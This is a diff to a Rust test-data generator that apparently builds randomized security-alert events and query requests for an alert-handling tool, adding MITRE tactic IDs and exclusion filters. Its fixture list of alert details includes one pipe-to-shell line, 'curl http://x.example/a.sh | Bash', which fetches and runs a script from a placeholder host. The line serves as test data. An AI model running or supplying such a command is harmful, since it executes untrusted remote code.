@@ -81,6 +81,7 @@ const DETAILS: [&str; 7] = [
     "curl http://x.example/a.sh | Bash",
     "🦀é",
 ];
+const TACTICS: [&str; 4] = ["TA0001", "TA0002", "TA00", ""];
 const WORDS: [&str; 4] = ["one", "two", "One", "三"];
 
 fn event(rng: &mut Rng, id: i64) -> Value {
@@ -157,6 +158,10 @@ fn event(rng: &mut Rng, id: i64) -> Value {
         let description = pick(rng, &DESCRIPTIONS);
         set("Desc", untidy(rng, description));
         set("Details", details(rng));
+    }
+    if rng.u8(..3) > 0 {
+        let tactics = (0..rng.usize(..4)).map(|_| json!({ "TacticId": pick(rng, &TACTICS) }));
+        set("TacticItems", tactics.collect());
     }
     if rng.u8(..4) > 0 {
         set("SourceAliUid", json!(1_000 + rng.i64(0..3)));
@@ -331,14 +336,38 @@ pub fn request(rng: &mut Rng, world: &World) -> Request {
         }
         request.push((name, value));
     }
+    for name in ["not.1", "not.2"] {
+        if rng.u8(..5) == 0 {
+            request.push((name, excluded(rng, world)));
+        }
+    }
     request
+}
+
+/// A parameter that can be left out, with its value.
+fn excluded(rng: &mut Rng, world: &World) -> String {
+    const NEVER: [&str; 5] = [
+        "TimeStart",
+        "TimeEnd",
+        "ContainerFieldName",
+        "PageSize",
+        "CurrentPage",
+    ];
+    loop {
+        let (name, value) = parameter(rng, world);
+        let restricts_nothing =
+            name == "Status" && value.split([',', '，']).any(|member| member.trim() == "0");
+        if !NEVER.contains(&name) && !name.contains('.') && !restricts_nothing && !value.trim().is_empty() {
+            return [name, "=", &value].concat();
+        }
+    }
 }
 
 fn parameter(rng: &mut Rng, world: &World) -> (&'static str, String) {
     let time = |rng: &mut Rng, base: i64| {
         alertbook_core::time::format_cloud_time(1_700_000_000 + base + rng.i64(0..12))
     };
-    match rng.u8(..26) {
+    match rng.u8(..31) {
         0 => ("Dealed", pick(rng, &["N", "y", " n "]).to_owned()),
         1 => ("TimeStart", time(rng, -2)),
         2 => ("TimeEnd", time(rng, 10)),
@@ -418,6 +447,19 @@ fn parameter(rng: &mut Rng, world: &World) -> (&'static str, String) {
             list(rng, &["real", "False-Positive", "unclear", "none"]),
         ),
         24 => ("tag", list(rng, &TAGS)),
+        25 => ("group", list(rng, &["0", "1", "2", "3", "9"])),
+        26 => (
+            "cluster.1",
+            value_of(
+                rng,
+                world,
+                &["K8sClusterId", "clusterId", "ClusterId"],
+                &["cluster-1"],
+            ),
+        ),
+        27 => ("account", list(rng, &["1000", "1001", "1002", "7"])),
+        28 => ("subtype.1", pick(rng, &NAMES).to_owned()),
+        29 => ("tactic", list(rng, &["TA0001", "TA0002", "TA00", "ta0001"])),
         _ => {
             if rng.bool() {
                 ("GroupId", rng.u8(..4).to_string())
